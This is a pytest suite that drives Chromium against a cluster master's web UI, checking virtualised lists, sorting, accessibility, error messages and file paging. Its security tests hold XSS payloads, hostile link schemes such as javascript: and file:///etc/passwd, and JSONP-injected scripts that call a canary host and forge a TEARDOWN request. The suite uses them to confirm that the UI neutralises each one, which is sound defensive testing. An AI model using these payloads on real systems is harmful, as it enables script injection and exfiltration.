"""The master's web page in a real Chromium, with a state that no real cluster has: large, hostile, or not there."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any, Callable, Optional

import pytest

from chromium import Browser, Page, browser
from foreign import PARTS
from webui_state import Master, State, agent, canary, serving

#: What a page says of what went wrong in it; among it each breach of its content security policy.
TROUBLE = ("Runtime.exceptionThrown", "Log.entryAdded", "Runtime.consoleAPICalled", "Page.javascriptDialogOpening")

MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "\"'><svg onload=alert(1)>",
    "</title></style><iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
)
HOSTILE = "".join(MARKUP) + "".join(PARTS)

#: What must never be in a page's text: controls, what turns the direction round, what is not seen.
NEVER = r"/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9\u{e0001}-\u{e007f}]/u"


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browser(tmp_path_factory.mktemp("chromium") / "profile") as made:
        yield made


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    made = chromium.page()
    yield made
    made.close()


def rows(page: Page, least: int = 1) -> None:
    page.wait(f"document.querySelectorAll('.space .row').length >= {least}")


def test_a_large_farm_stays_smooth(page: Page) -> None:
    """250 agents, 6,000 tasks: of them only the rows in sight are in the document, wherever one is in the list."""
    master = Master(State(250, 6000))
    with serving(master.handler()) as where:
        page.open(f"http://{where}/")
        rows(page, 20)
        assert page.text(".number") == "6,000 tasks"
        page.js("document.querySelector('.list').focus()")
        page.press("End")
        page.wait("document.querySelector('.row[aria-selected=true]')")
        assert page.js("document.querySelector('.row[aria-selected=true]').getAttribute('aria-rowindex')") == "6001"
        assert page.js("document.querySelector('.list').getAttribute('aria-rowcount')") == "6001"
        page.js("document.querySelector('.list').scrollTop = 90000")
        rows(page, 20)
        assert page.js("document.querySelectorAll('*').length") < 1500
        page.press("/")
        page.type("readout3 hlt01")
        page.wait("document.querySelector('.number').textContent === '10 of 6,000 tasks'")
        assert "q=readout3+hlt01" in page.js("location.hash")
        page.js("location.hash = '#/agents?state=INACTIVE'")
        page.wait("document.querySelector('.number').textContent === '5 of 250 agents'")
    assert page.happened(*TROUBLE) == []


def test_the_way_back_leads_to_where_one_was(page: Page) -> None:
    """The words, the place in the list and the row, after a look at a task; and no look at the master takes the focus away."""
    master = Master(State(250, 6000))
    with serving(master.handler()) as where:
        page.open(f"http://{where}/#/tasks?q=hlt")
        rows(page, 20)
        page.js("document.querySelector('.list').focus()")
        for key in ("PageDown",) * 5 + ("ArrowDown",):
            page.press(key)
        chosen = "document.querySelector('.row[aria-selected=true]')?.textContent"
        page.wait(chosen)
        row, top = page.js(chosen), page.js("document.querySelector('.list').scrollTop")
        assert top > 1000
        page.press("Enter")
        page.wait("document.querySelector('.details h3')")
        page.js("history.back()")
        page.wait(chosen)
        name = "document.querySelector('.row[aria-selected=true] .name').textContent"
        assert page.js(name) in row and page.js("document.querySelector('.list').scrollTop") == top
        assert page.js("document.getElementById('filter').value") == "hlt"
        page.js("document.querySelectorAll('nav a')[1].focus()")
        looks = len(master.asked)
        page.until(lambda: len(master.asked) >= looks + 6)
        assert page.js("document.activeElement.textContent").startswith("Agents")


def test_what_is_wrong_comes_first_and_heads_sort(page: Page) -> None:
    """Unhealthy, then unreachable, then what moves, then what runs, at last what has ended; by a head it is otherwise."""
    with serving(Master(State(4, 420)).handler()) as where:
        page.open(f"http://{where}/")
        rows(page, 20)
        states = page.js(
            "[...document.querySelectorAll('.space .row')].map((one) => one.querySelector('.badge').textContent)"
        )
        assert states[0] == "RUNNING" and "unhealthy" in page.text(".space .row .health")
        assert states.index("UNREACHABLE") < states.index("STARTING") < states.index("KILLING")
        assert page.js("document.querySelectorAll('[aria-sort]').length") == 0
        page.js("document.querySelector('.head .name button').click()")
        page.wait("document.querySelector('.head .name').getAttribute('aria-sort') === 'ascending'")
        page.js("document.querySelector('.head .name button').click()")
        page.wait("document.querySelector('.head .name').getAttribute('aria-sort') === 'descending'")
        assert "sort=-name" in page.js("location.hash")
        page.wait("document.querySelector('.space .row .name').textContent.startsWith('readout1@')")


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_no_state_is_told_by_colour_alone(page: Page, dark: bool) -> None:
    """Each has a word and a shape; families that must not be mixed up have different shapes."""
    with serving(Master(State(60, 420)).handler()) as where:
        page.size(1280, 800, dark)
        page.open(f"http://{where}/")
        rows(page, 20)
        found = page.js("""Object.fromEntries([...document.querySelectorAll('.states .badge')].map((one) =>
            [one.textContent, one.querySelector('path').getAttribute('d')]))""")
        assert set(found) == {"FAILED", "STARTING", "KILLING", "UNREACHABLE", "LOST", "RUNNING"}
        assert len(set(found.values())) == 5 and found["LOST"] == found["UNREACHABLE"]
        page.js("location.hash = '#/agents'")
        page.wait("document.querySelector('.agents .space .row')")
        assert page.js("document.querySelector('.agents .badge path').getAttribute('d').length") > 5


PLACES = ("#/tasks", "#/agents", "#/frameworks", "#/agent/agent-0", "#/framework/framework-0")


@pytest.mark.parametrize("text", [HOSTILE, *MARKUP], ids=["all", *(str(at) for at in range(len(MARKUP)))])
def test_foreign_words_are_words(page: Page, text: str) -> None:
    """Every text that the master knows is hostile, and all that happens is that it is read."""
    master = Master(State(2, 6, says=lambda plain: f"{plain}{text}"))
    with serving(master.handler()) as where:
        page.open(f"http://{where}/")
        rows(page, 6)
        elements = "JSON.stringify([...new Set([...document.querySelectorAll('*')].map((one) => one.tagName))])"
        for place in (*PLACES, page.js("document.querySelector('.space a').hash")):
            page.js(f"location.hash = {json.dumps(place)}")
            page.wait("document.querySelector('.space .row, .details h3')")
            assert not page.js(f"{NEVER}.test(document.documentElement.textContent + document.title)")
            names = set(json.loads(page.js(elements)))
            assert not names & {"IMG", "IFRAME", "BDO", "FORM", "OBJECT"} and page.js("document.scripts.length") == 1
            assert page.js(
                "[...document.links].every((one) => /^https?:$/.test(one.protocol) && (one.hash || one.target))"
            )
        requests = {one["request"]["url"].partition("#")[0] for one in page.happened("Network.requestWillBeSent")}
        assert all(one.startswith(f"http://{where}/") or one == "data:," for one in requests), requests
        assert page.happened(*TROUBLE) == []


def test_what_is_hidden_is_shown_as_its_code(page: Page) -> None:
    """Nothing is left out."""
    with serving(
        Master(State(1, 1, says=lambda plain: f"{plain}\x1b[31m\u202egnp\x85\u200b\ufeff\n")).handler()
    ) as where:
        page.open(f"http://{where}/")
        rows(page)
        assert "\\x1b[31m\\u202egnp\\x85\\u200b\\ufeff\\n" in page.text(".space .name")


@pytest.mark.parametrize(
    ("address", "leads"),
    [
        ("http://control:8080/farm", "http://control:8080/farm"),
        ("HTTPS://control", "https://control/"),
        ("javascript:alert(1)", ""),
        (" javascript:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("http://control@evil.example/", ""),
        ("file:///etc/passwd", ""),
        ("//evil.example", ""),
        ("control:8080", ""),
    ],
)
def test_a_frameworks_link_leads_to_a_page_or_nowhere(page: Page, address: str, leads: str) -> None:
    """Only http and https; in a window that knows nothing of ours, and with the address to be seen."""
    state = State(1, 1)
    state.answers["GET_FRAMEWORKS"]["get_frameworks"]["frameworks"][0]["framework_info"]["webui_url"] = address
    with serving(Master(state).handler()) as where:
        page.open(f"http://{where}/#/framework/framework-0")
        page.wait("document.querySelector('.details dl')")
        links = page.js(
            "[...document.querySelectorAll('dl a')].map((one) => [one.href, one.textContent, one.target, one.rel])"
        )
        assert links == ([[leads, leads, "_blank", "noopener noreferrer"]] if leads else [])
        assert leads or "no link" in page.text("dl")


def test_a_master_that_does_not_answer_is_told_and_asked_again(page: Page) -> None:
    """What was known stays and is marked; it comes back by itself. Nobody is asked while nobody looks."""
    master = Master(State(2, 6))
    with serving(master.handler()) as where:
        page.open(f"http://{where}/")
        rows(page, 6)
        master.other = (503, b"")
        page.wait("!document.getElementById('trouble').hidden")
        text = page.text("#trouble")
        assert re.search(
            r"no master leads \(503\)\. Asked \d times? in vain since .*; what is shown is \d+ s old\.", text
        ), text
        assert (
            page.js("document.body.className") == "stale"
            and page.js("document.querySelectorAll('.space .row').length") == 6
        )
        master.other = None
        page.wait("document.getElementById('trouble').hidden")
        assert page.js("document.body.className") == ""


@pytest.mark.parametrize(
    ("status", "body", "says"),
    [
        (307, b"", "This master does not lead: open /redirect"),
        (401, b"", "does not let you look (401): it wants credentials"),
        (403, b"", "does not let you look (403)"),
        (500, b"<script>alert(1)</script>", "The master answers 500."),
        (200, b"<script>alert(1)</script>", "The master's answer is not JSON."),
        (200, b"[]", "The master's answer is not what it should be."),
        (200, b"null", "The master's answer is not what it should be."),
    ],
)
def test_an_answer_of_the_master_that_is_none_is_a_sentence(page: Page, status: int, body: bytes, says: str) -> None:
    """Each says what to look at."""
    master = Master(State(1, 1))
    master.other = (status, body)
    with serving(master.handler()) as where:
        page.open(f"http://{where}/")
        page.wait("!document.getElementById('trouble').hidden")
        assert says in page.text("#why")
        master.other = None
        rows(page)


def test_nobody_is_asked_while_nobody_looks(chromium: Browser, page: Page) -> None:
    """Another page, which is looked at, goes on meanwhile."""
    unseen, seen = Master(State(1, 1)), Master(State(1, 1))
    with serving(unseen.handler()) as where, serving(seen.handler()) as other:
        page.open(f"http://{where}/")
        rows(page)
        page.js("Object.defineProperty(document, 'hidden', {value: true, configurable: true})")
        second = chromium.page()
        second.open(f"http://{other}/")
        page.until(lambda: len(seen.asked) >= 6)
        before = len(unseen.asked)
        page.until(lambda: len(seen.asked) >= 15)
        assert len(unseen.asked) == before
        second.close()
        page.js("delete document.hidden; document.dispatchEvent(new Event('visibilitychange'))")
        page.until(lambda: len(unseen.asked) > before)


def test_it_is_asked_again_the_later_the_longer_it_is_silent(page: Page) -> None:
    """2 s, 4 s, ...: a page that is left open is no burden."""
    master = Master(State(2, 6))
    master.other = (503, b"")
    with serving(master.handler()) as where:
        page.open(f"http://{where}/")
        page.wait("/nothing is known yet/.test(document.getElementById('trouble').textContent)")
        page.wait("/Asked 3 times/.test(document.getElementById('trouble').textContent)")
        looks = master.asked[::3]
        assert looks[2] - looks[1] > 1.5 * (looks[1] - looks[0]) > 2.0


def test_it_shows_nothing_inside_another_page(page: Page) -> None:
    """Where somebody else's page is around it, nobody is asked."""
    master = Master(State(2, 6))
    with serving(master.handler()) as where:
        page.call("Page.setDocumentContent", frameId=page.call("Page.getFrameTree")["frameTree"]["frame"]["id"],
                  html=f"<iframe src='http://{where}/'></iframe>")  # fmt: skip
        loaded = f"http://{where}/app/main.js"
        page.until(lambda: any(one["request"]["url"] == loaded for one in page.happened("Network.requestWillBeSent")))
        page.until(lambda: len(page.happened("Network.loadingFinished")) >= 9)
        assert master.asked == []


# ------------------------------------------------------------------ agents that are not what they seem

FILES = json.dumps([{"path": "/s/stdout", "size": 5, "mtime": 1.0, "mode": "-rw-r--r--", "uid": "daq"}])


def answering(script: str) -> Callable[[str, Any], Optional[str]]:
    """An agent whose every answer begins with this script, and then is as it should be."""

    def answer(what: str, query: Any) -> Optional[str]:
        name = query["jsonp"]
        if what == "/files/browse":
            return f"{script};{name}({FILES})"
        found = {"data": "" if query["offset"] == "-1" else "hello", "offset": 5 if query["offset"] == "-1" else 0}
        return f"{script};{name}({json.dumps(found)})"

    return answer


#: {master}, {canary}: HOST:PORT of the master, and of a server that nobody may ask. What goes on afterwards, all at once:
TRIES = (
    "top.location = 'http://{canary}/top'",
    "parent.document.body.textContent = 'owned'",
    "fetch('http://{master}/api/v1', {{method: 'POST', mode: 'no-cors', body: '{{\"type\":\"TEARDOWN\"}}'}})",
    "fetch('http://{canary}/fetch', {{mode: 'no-cors'}})",
    "navigator.sendBeacon('http://{canary}/beacon', 'x')",
    "(new Image()).src = 'http://{canary}/image'",
    "(() => {{ const s = document.createElement('script'); s.src = 'http://{canary}/script'; document.head.append(s) }})()",
    "(() => {{ const s = document.createElement('script'); s.src = 'http://{master}/app/main.js'; document.head.append(s) }})()",
    "(() => {{ const f = document.createElement('iframe'); f.src = 'http://{canary}/frame'; document.body.append(f) }})()",
    "(() => {{ const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://{master}/api/v1';"
    " document.body.append(f); f.submit() }})()",
    "open('http://{canary}/open')",
    "alert(1)",
    "eval('parent.owned = 1')",
    "new Worker('data:text/javascript,1')",
    "new WebSocket('ws://{canary}/socket')",
    "localStorage.x = 1",
    "document.cookie = 'x=1'",
)
#: What leads out of the frame; the answer may then not come.
WAYS_OUT = ("location = 'http://{canary}/location'", "location = 'http://{master}/'", "document.write('<p>owned')")
#: Words to the page that are none, and one in the place of the answer.
WORDS = (
    "for (let i = 0; i < 1000; i++) parent.postMessage({{number: i, found: {{data: 5}}, ready: 'x'}}, '*')",
    "parent.postMessage(null, '*'); parent.postMessage('x', '*'); parent.postMessage({{}}, '*')",
    "parent.postMessage({{number: 1, found: [{{path: '<img src=x onerror=alert(1)>', size: 'x', mode: {{}}}}]}}, '*')",
)
ATTACKS = ("; ".join(f"try {{{{ {one} }}}} catch (error) {{{{}}}}" for one in TRIES), *WAYS_OUT, *WORDS)


@pytest.mark.parametrize("attack", ATTACKS, ids=["tries", "out", "home", "write", "flood", "none", "instead"])
def test_an_agent_that_answers_with_a_script_of_its_own_gains_nothing(page: Page, attack: str) -> None:
    """It is the price of JSONP that it runs; so it runs where it has no rights, can ask nobody and reaches nothing."""
    seen: list[str] = []
    master = Master(State(0, 0))
    with serving(canary(seen)) as nobody, serving(master.handler()) as where:
        ran = f"(self.ran ||= true) && parent.postMessage({{ran: self.origin}}, '*'); {attack.format(master=where, canary=nobody)}"
        with serving(agent(answering(ran))) as address:
            master.state(State(1, 1, address))
            page.open(f"http://{where}/#/agents")
            rows(page)
            page.js("addEventListener('message', ({data}) => { if (data?.ran) self.seen = data.ran })")
            page.js("location.hash = '#/file/agent-0?path=/s/stdout'")
            page.wait("self.seen")
            assert page.js("self.seen") == "null"  # its origin is nobody's
            looks = len(master.asked)
            page.until(lambda: len(master.asked) >= looks + 6)  # the page goes on as before; by then all has happened
            assert page.js("location.href").startswith(f"http://{where}/#/file/")
            assert (
                page.js("[self.owned, document.images.length, document.cookie, localStorage.length].join()") == ",0,,0"
            )
            assert "owned" not in page.text() and page.text("#nav").startswith("Tasks")
    assert seen == [] and set(master.kinds) == {"GET_TASKS", "GET_AGENTS", "GET_FRAMEWORKS"}
    assert page.happened("Page.javascriptDialogOpening") == []
    refused = [one for one in page.happened("Log.entryAdded") if "Content Security Policy" in json.dumps(one)]
    assert len(refused) >= (8 if attack is ATTACKS[0] else 0)


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        ("{name}(5)", "is no list of files"),
        ("{name}({{}})", "is no list of files"),
        ("{name}(", "gives no such file"),
        ("", "gives no such file"),
        ("{name}([{{path: 7}}, null, {{}}, 'x'])", "nothing in it"),
        ("{name}(new Array(100000).fill({{path: '/s/x'.repeat(10000)}}))", "more than these 2,000"),
    ],
)
def test_an_answer_that_is_none_is_said(page: Page, answer: str, says: str) -> None:
    """A sentence, and in time; what is too much is cut."""
    handler = agent(lambda what, query: answer.format(name=query["jsonp"]))
    with serving(handler) as address, serving(Master(State(1, 1, address)).handler()) as where:
        page.open(f"http://{where}/#/folder/agent-0?path=/s")
        page.wait(f"/{says}/.test(document.querySelector('.details').textContent)", 15)


def test_the_frame_that_asks_agents_does_nothing_by_itself(page: Page) -> None:
    """On the master's own origin an agent's script would have the master's rights: by a link it loads none."""
    seen: list[str] = []
    with serving(canary(seen)) as nobody, serving(Master(State(1, 1)).handler()) as where:
        page.open(f"http://{where}/app/agent.html#{nobody}")
        page.js("postMessage({number: 1, what: 'browse', query: 'path=/'}, '*')")
        page.js("new Promise((resolve) => { addEventListener('message', resolve); postMessage(1, '*') })")
        assert page.js("document.querySelectorAll('script').length") == 1 and seen == []


def test_an_agent_whose_address_is_none_is_not_asked(page: Page) -> None:
    """What the master says of it is somebody's word as well."""
    for address in ("evil.example:80", "127.0.0.1:80/x", "127.0.0.1:80 https://evil.example", "x@127.0.0.1"):
        with serving(Master(State(1, 1, address)).handler()) as where:
            page.open(f"http://{where}/#/folder/agent-0?path=/s")
            page.wait("/does not know/.test(document.querySelector('.trouble').textContent)")
            assert page.js("document.querySelectorAll('iframe').length") == 0


def test_a_file_is_paged_without_losing_a_byte(page: Page) -> None:
    """Start, later, earlier, end; a character that lies on a border is on one of both pages, whole."""
    text = ("x" * 65535 + "é" + "y" * 65533 + "€" + "z" * 40000 + "end").encode()

    def answer(what: str, query: Any) -> str:
        if what == "/files/browse":
            return f"{query['jsonp']}({FILES})"
        offset = int(query["offset"])
        if offset == -1:
            return f'{query["jsonp"]}({{"data": "", "offset": {len(text)}}})'
        data = text[offset : offset + min(int(query["length"]), 65536)]
        return f"{query['jsonp']}({json.dumps({'data': data.decode('latin-1'), 'offset': offset})})"

    with serving(agent(answer)) as address, serving(Master(State(1, 1, address)).handler()) as where:
        page.open(f"http://{where}/#/file/agent-0?path=/s/stdout")
        page.wait("document.querySelector('pre')?.textContent.endsWith('end')")

        def press(name: str, of: str) -> str:
            page.js(
                f"[...document.querySelectorAll('.tools button')].find((one) => one.textContent === '{name}').click()"
            )
            page.wait(f"document.querySelector('.number').textContent === '{of}'")
            found: str = page.js("document.querySelector('pre').textContent")
            return found

        size = f"{len(text):,}"
        pages = [press("Start", f"bytes 0 to 65,535 of {size}"), press("Later", f"bytes 65,535 to 131,070 of {size}")]
        pages += [press("Later", f"bytes 131,070 to {size} of {size}")]
        assert "".join(pages).encode() == text
        back = [
            press("Earlier", f"bytes 65,534 to 131,070 of {size}"),
            press("Earlier", f"bytes 0 to 65,534 of {size}"),
        ]
        assert "".join(reversed(back)) == pages[0] + pages[1]
        assert press("End", f"bytes 105,540 to {size} of {size}").endswith("zend")
